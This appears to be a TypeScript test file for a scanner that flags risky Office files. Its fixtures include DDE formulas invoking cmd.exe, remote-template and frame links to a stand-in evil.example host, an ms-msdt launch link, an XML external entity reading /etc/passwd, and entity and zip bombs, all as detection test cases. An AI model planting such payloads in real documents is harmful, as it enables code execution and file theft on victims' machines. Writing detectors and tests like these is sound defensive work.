import { describe, expect, test } from 'vitest';
import { look } from './build/look.ts';
import { buildOffice, type Kind, relationship } from './build/office.ts';
import { part, word, sheet, types, rels, field, instruction, utf16 } from './build/office-parts.ts';
import { buildZip, type Part } from './build/zip.ts';

const compoundFile = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024)]);
const encryptedPackage = Buffer.concat([compoundFile, Buffer.from('EncryptedPackage', 'utf16le'), Buffer.alloc(64)]);
const declaration = '<!DOCTYPE x [<!ENTITY a "b">]>';
const bombOfEntities = `<!DOCTYPE x [<!ENTITY a "aaaa">${'<!ENTITY b "&a;&a;&a;&a;">'.repeat(20)}]>`;

/** Row and title, reason, kind, parts. */
const table: [string, string, Kind, Part[]][] = [
  ['U6: macros under the name every program gives them', 'macro', 'docx', part('word/vbaProject.bin', 'x')],
  ['U6: macros in another folder and case', 'macro', 'xlsx', part('x/VbaProject.BIN', 'x')],
  [
    'U6: a content type for macros with nothing to show for it',
    'macro',
    'xlsx',
    types('xlsx', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
  ],
  [
    'U6: a macro workbook that was renamed',
    'macro',
    'xlsx',
    part(
      '[Content_Types].xml',
      '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
    ),
  ],
  [
    'U6: macros under a harmless name, by their relationship',
    'macro',
    'xlsx',
    part('xl/_rels/workbook.xml.rels', relationship('vbaProject', 'picture.png')),
  ],
  ['U6: macros under a harmless name, by their bytes', 'embedded', 'xlsx', part('xl/media/picture.png', compoundFile)],
  ['U6: Excel 4 macros', 'macro', 'xlsx', part('xl/macrosheets/sheet1.xml', '<x/>')],
  ['U6: ActiveX by its folder', 'activeX', 'xlsx', part('xl/activeX/activeX1.xml', '<x/>')],
  ['U6: ActiveX by its relationship', 'activeX', 'docx', rels('control', 'x.xml')],
  ['U6: an embedded object by its bytes', 'embedded', 'docx', part('word/embeddings/oleObject1.bin', compoundFile)],
  ['U6: an embedded object by its relationship', 'embedded', 'docx', rels('oleObject', 'x.bin')],
  [
    'U6: an embedded object by its element',
    'embedded',
    'docx',
    word('<w:object><o:OLEObject Type="Embed"/></w:object>'),
  ],
  [
    'U6: an embedded object on a slide',
    'embedded',
    'pptx',
    part('ppt/slides/slide1.xml', '<p:sld><p:oleObj/></p:sld>'),
  ],
  ['U6: an embedded program', 'embedded', 'docx', part('word/media/setup.exe', 'MZ')],
  ['U6: an embedded page that Word would merge in', 'embedded', 'docx', rels('aFChunk', 'x.rtf')],
  [
    'U6: a remote template',
    'externalLink',
    'docx',
    part('word/_rels/settings.xml.rels', relationship('attachedTemplate', 'https://evil.example/t.dotm', 'External')),
  ],
  [
    'U6: a template on a file server',
    'externalLink',
    'docx',
    part('word/_rels/settings.xml.rels', relationship('attachedTemplate', 'file:///\\\\10.0.0.1\\t.dotm', 'External')),
  ],
  ['U6: a remote object', 'externalLink', 'docx', rels('oleObject', 'mhtml:https://evil.example/x!x', 'External')],
  ['U6: a remote frame', 'externalLink', 'docx', rels('frame', 'https://evil.example/', 'External')],
  ['U12: a picture that would be fetched', 'externalLink', 'docx', rels('image', 'file:///etc/passwd', 'External')],
  [
    'U6: the mode of a link in capital letters',
    'externalLink',
    'docx',
    part(
      'word/_rels/document.xml.rels',
      '<Relationships><Relationship Type="x/image" Target="http://evil.example" TargetMode="EXTERNAL"/></Relationships>',
    ),
  ],
  ['U6: a link that starts a program', 'launch', 'docx', rels('hyperlink', 'ms-msdt:/id PCWDiagnostic', 'External')],
  [
    'U6: a click that starts a program',
    'launch',
    'pptx',
    part('ppt/slides/slide1.xml', '<p:sld><a:hlinkClick action="ppaction://program"/></p:sld>'),
  ],
  ['U6: links to other workbooks', 'externalLink', 'xlsx', part('xl/externalLinks/externalLink1.xml', '<x/>')],
  ['U6: DDE in a cell', 'dde', 'xlsx', sheet("<row><c><f>1+cmd|'/C calc'!A0</f></c></row>")],
  [
    'U6: DDE in a cell, between texts and in CDATA',
    'dde',
    'xlsx',
    sheet(`<c><f><![CDATA["a|b"&cmd|' /C calc'!A0]]></f></c>`),
  ],
  [
    'U6: DDE in a name',
    'dde',
    'xlsx',
    part('xl/workbook.xml', '<workbook><definedName name="x">cmd|\'/C calc\'!A0</definedName></workbook>'),
  ],
  [
    'U6: a DDE link',
    'dde',
    'xlsx',
    part('xl/other/link.xml', '<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
  ],
  [
    'U6: a formula that calls a server',
    'externalLink',
    'xlsx',
    sheet('<c><f>_xlfn.WEBSERVICE("https://evil.example")</f></c>'),
  ],
  [
    'U6: DDE in a field',
    'dde',
    'docx',
    word(`${field('begin')}${instruction(' DDEAUTO c:\\windows\\system32\\cmd.exe')}${field('end')}`),
  ],
  [
    'U6: DDE in a field, cut into runs',
    'dde',
    'docx',
    word(`${field('begin')}${instruction('DD')}${instruction('EAUTO "cmd"')}${field('separate')}${field('end')}`),
  ],
  [
    'U6: DDE in a field within a field',
    'dde',
    'docx',
    word(
      `${field('begin')}${instruction('IF 1=1 ')}${field('begin')}${instruction('DDE cmd')}${field('end')}${field('end')}`,
    ),
  ],
  ['U6: DDE in a field that never ends', 'dde', 'docx', word(`${field('begin')}${instruction('DDE cmd')}`)],
  ['U6: DDE in a simple field', 'dde', 'docx', word('<w:fldSimple w:instr="DDEAUTO cmd"/>')],
  ['U6: DDE in a header', 'dde', 'docx', part('word/header1.xml', '<w:hdr><w:fldSimple w:instr="dde cmd"/></w:hdr>')],
  [
    'U6: a field that fetches',
    'externalLink',
    'docx',
    word('<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://evil.example/x.png&quot;"/>'),
  ],
  [
    'U8: a declaration in the main part',
    'xmlEntities',
    'docx',
    part('word/document.xml', `<?xml version="1.0"?>${declaration}<w:document/>`),
  ],
  [
    'U8: an external entity',
    'xmlEntities',
    'xlsx',
    part('xl/workbook.xml', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook>&e;</workbook>'),
  ],
  ['U8: an entity bomb', 'xmlEntities', 'xlsx', part('xl/sharedStrings.xml', `${bombOfEntities}<x>&b;</x>`)],
  [
    'U8: a declaration in UTF-16',
    'xmlEntities',
    'docx',
    part('word/document.xml', utf16(`${declaration}<w:document/>`)),
  ],
  [
    'U8: a declaration in UTF-16 without a mark',
    'xmlEntities',
    'docx',
    part('word/document.xml', Buffer.from(`${declaration}<w:document/>`, 'utf16le')),
  ],
  [
    'U8: a declaration in a drawing',
    'xmlEntities',
    'xlsx',
    part('xl/drawings/vmlDrawing1.vml', `${declaration}<xml><br></xml>`),
  ],
  [
    'U8: a declaration in a part named like a picture',
    'xmlEntities',
    'xlsx',
    part('xl/media/a.png', `${' '.repeat(600)}${declaration}<x/>`),
  ],
  [
    'U8: an encoding nobody writes',
    'damaged',
    'docx',
    part('word/document.xml', '<?xml version="1.0" encoding="UTF-7"?><w:document/>'),
  ],
  ['U8: elements a thousand deep', 'tooComplex', 'docx', word('<a>'.repeat(1000) + '</a>'.repeat(1000))],
  [
    'U8: ten thousand attributes',
    'tooComplex',
    'docx',
    word(`<a ${Array.from({ length: 10_000 }, (_, i) => `a${i}=""`).join(' ')}/>`),
  ],
  ['U8: one endless text', 'tooComplex', 'docx', part('word/document.xml', `<x>${longText()}</x>`)],
  ['U8: one endless attribute', 'tooComplex', 'docx', part('word/document.xml', `<x a="${longText()}"/>`)],
  ['U8: one endless comment', 'tooComplex', 'docx', part('word/document.xml', `<x><!--${longText()}--></x>`)],
  [
    'U7: an archive inside',
    'nestedArchive',
    'docx',
    part('word/media/image1.png', buildZip([{ name: 'x', data: 'x' }])),
  ],
  ['U7: an archive inside by its name', 'nestedArchive', 'docx', part('word/media/x.zip', 'x')],
  [
    'U7: a gzip file inside',
    'nestedArchive',
    'docx',
    part('word/media/image1.png', Buffer.from('1f8b0800000000', 'hex')),
  ],
  [
    'U7: an embedded workbook with macros',
    'macro',
    'pptx',
    part('ppt/embeddings/x.xlsx', buildOffice('xlsx', part('xl/vbaProject.bin', 'x'))),
  ],
  ['U7: workbooks nested too deep', 'embedded', 'pptx', part('ppt/embeddings/x.xlsx', nested(3))],
  [
    'U7: an embedded bomb',
    'bomb',
    'pptx',
    part('ppt/embeddings/x.xlsx', buildOffice('xlsx', [{ name: 'xl/a.xml', data: 'x', size: 250_000_000 }])),
  ],
  ['U7: more bytes than declared', 'bomb', 'xlsx', [{ name: 'xl/a.bin', data: Buffer.alloc(5_000_000), size: 5_000 }]],
  ['U7: fewer bytes than declared', 'damaged', 'xlsx', [{ name: 'xl/a.bin', data: 'x'.repeat(50), size: 60 }]],
  ['U7: another content than its checksum', 'damaged', 'xlsx', [{ name: 'xl/a.bin', data: 'x', crc: 7 }]],
  ['U5: a document called a workbook', 'contentDiffers', 'docx', part('x.xml', '<x/>')],
  ['U5: XML that is not well formed', 'damaged', 'xlsx', part('xl/workbook.xml', '<workbook><a></workbook>')],
  [
    'U5: XML that is not UTF-8',
    'damaged',
    'xlsx',
    part('xl/workbook.xml', Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0x3c, 0x2f, 0x61, 0x3e])),
  ],
];

function longText(): string {
  return Array.from({ length: 1_200_000 }, (_, i) => String(i)).join(' ');
}
function nested(levels: number): Buffer {
  return buildOffice('xlsx', levels === 1 ? [] : part('xl/embeddings/x.xlsx', nested(levels - 1)));
}

describe('Office files that act, load or hide', () => {
  test.each(table)('%s → %s', async (title, reason, kind, parts) => {
    const name = title.includes('called a workbook') ? 'a.xlsx' : `a.${kind}`;
    expect(await look(name, buildOffice(kind, parts))).toBe(reason);
  });

  test('U9: a password-protected workbook, document or presentation says so', async () => {
    for (const name of ['a.xlsx', 'a.docx', 'a.pptx']) {
      expect(await look(name, encryptedPackage)).toBe('passwordProtected');
    }
  });

  test('U9: an old workbook under a new name is told from a protected one', async () => {
    expect(await look('a.xlsx', compoundFile)).toBe('oldFormat');
  });

  test('U5: a plain archive under the name of a workbook is not one', async () => {
    expect(await look('a.xlsx', buildZip([{ name: 'a.txt', data: 'x' }]))).toBe('contentDiffers');
  });
});
